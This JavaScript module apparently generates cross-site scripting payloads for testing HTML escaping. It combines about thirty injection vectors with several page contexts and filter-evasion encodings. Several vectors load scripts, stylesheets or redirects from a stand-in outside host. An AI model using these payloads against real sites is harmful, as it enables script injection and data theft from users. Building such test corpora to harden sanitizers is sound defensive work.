/**
 * Texts that want to run, or to act on the page that shows them. Each is one vector, put into one context in which a page may have forgotten to escape,
 * in one spelling that a filter may have forgotten. All of them do the same when they run: they leave a mark, ask, and call a stranger.
 */

/** What a payload does; short, for names have a hundred bytes. */
const DEED = 'top.ran=1,alert(1)'
const CALL = "fetch('//stranger.invalid')"

const vectors = {
  script: `<script>${DEED}</script>`,
  module: `<script type=module src=//stranger.invalid/a.js></script>`,
  image: `<img src=x onerror=${DEED}>`,
  picture: `<picture><source srcset=//stranger.invalid/p><img src=x></picture>`,
  svg: `<svg onload=${DEED}>`,
  animate: `<svg><animate onbegin=${DEED} attributeName=x>`,
  use: `<svg><use href="data:image/svg+xml,<svg id=x onload=${DEED}>#x"/></svg>`,
  frame: `<iframe srcdoc="<script>${DEED}</script>"></iframe>`,
  address: `<iframe src="javascript:${DEED}"></iframe>`,
  object: `<object data="javascript:${DEED}"></object>`,
  embed: `<embed src="data:text/html,<script>${DEED}</script>">`,
  link: `<a href="javascript:${DEED}" autofocus>click</a>`,
  details: `<details open ontoggle=${DEED}>`,
  focus: `<input autofocus onfocus=${DEED}>`,
  media: `<video><source onerror=${DEED}></video>`,
  marquee: `<marquee onstart=${DEED}>`,
  form: `<form action="javascript:${DEED}"><button autofocus>go</button></form>`,
  refresh: `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`,
  leave: `<meta http-equiv=refresh content="0;url=//stranger.invalid">`,
  base: `<base href=//stranger.invalid/>`,
  style: `<style>@import "//stranger.invalid/s.css";*{display:none}</style>`,
  sheet: `<link rel=stylesheet href=//stranger.invalid/s.css>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror=${DEED}>`,
  template: `{@html '<img src=x onerror=${DEED}>'}`,
  expression: `\${${DEED}}{{constructor.constructor('${DEED}')()}}`,
  bare: `javascript:${DEED}`,
  data: `data:text/html,<script>${DEED}</script>`,
  quoted: `https://stranger.invalid/"onmouseover="${DEED}`,
  caller: `<img src=x onerror=${CALL}>`,
  prototype: `__proto__`,
}

const contexts = {
  plain: (text) => text,
  attribute: (text) => `">${text}`,
  apostrophe: (text) => `'>${text}<b a='`,
  text: (text) => `</textarea></title></style></script>${text}`,
  comment: (text) => `-->${text}<!--`,
  foreign: (text) => `<svg><foreignObject>${text}</foreignObject></svg>`,
}

const spellings = {
  plain: (text) => text,
  mixed: (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  entities: (text) => text.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  percent: (text) => text.replace(/[<>"'=]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`),
  escapes: (text) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  wide: (text) => text.replace(/[<>]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  broken: (text) => text.replace(/script/g, 'scr\tipt').replace(/on(\w+)=/g, 'on$1\n='),
}

/** All vectors in all contexts as they are, and in the first two contexts in every other spelling. */
const all = Object.entries(vectors).flatMap(([vector, text]) =>
  Object.entries(contexts).flatMap(([context, put], index) =>
    Object.entries(spellings)
      .filter(([spelling]) => spelling === 'plain' || index < 2)
      .map(([spelling, spell]) => ({ name: `${vector} ${context} ${spelling}`, text: spell(put(text)) })),
  ),
)

/** Each text once: some have nothing that a spelling changes. */
export const payloads = all.filter(({ text }, index) => all.findIndex((other) => other.text === text) === index)

/** Those that fit where a name goes: a hundred bytes, in one line. */
export const names = payloads.map(({ text }) => text).filter((text) => Buffer.byteLength(text) <= 100 && !/[\n\t]/.test(text))
